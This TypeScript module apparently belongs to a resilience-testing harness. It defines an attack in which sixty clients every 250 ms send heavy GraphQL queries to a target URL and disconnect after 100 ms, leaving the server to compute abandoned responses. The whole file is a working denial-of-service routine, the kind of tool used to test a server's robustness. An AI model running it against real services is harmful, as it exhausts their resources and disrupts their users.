import { request } from "node:http";
import type { Attack } from "./attack.ts";
import { HEAVY_QUERY } from "./hostileQueries.ts";

const CLIENTS = 60;
const EVERY_MS = 250;
/** Delay before disconnecting: long enough for the server to read the request, much shorter than the response takes. */
const STAYS_MS = 100;

/** Attack by sixty concurrent clients that send slow GraphQL queries and disconnect early. */
export const vanishingClients: Attack = {
  name: "clients of GraphQL that go away",
  async start({ graphqlUrl }) {
    let gone = 0;
    let answered = 0;
    const body = JSON.stringify({ query: HEAVY_QUERY });
    const timer = setInterval(() => {
      for (let client = 0; client < CLIENTS; client++) {
        const outgoing = request(
          graphqlUrl,
          { method: "POST", agent: false, headers: { "content-type": "application/json" } },
          (incoming) => {
            answered++;
            incoming.resume();
          },
        );
        outgoing.on("error", () => {});
        outgoing.end(body);
        setTimeout(() => {
          gone++;
          outgoing.destroy();
        }, STAYS_MS);
      }
    }, EVERY_MS);
    return {
      async stop() {
        clearInterval(timer);
        await new Promise((resolve) => setTimeout(resolve, STAYS_MS));
        return `${gone} clients went away, ${answered} were answered before`;
      },
    };
  },
};
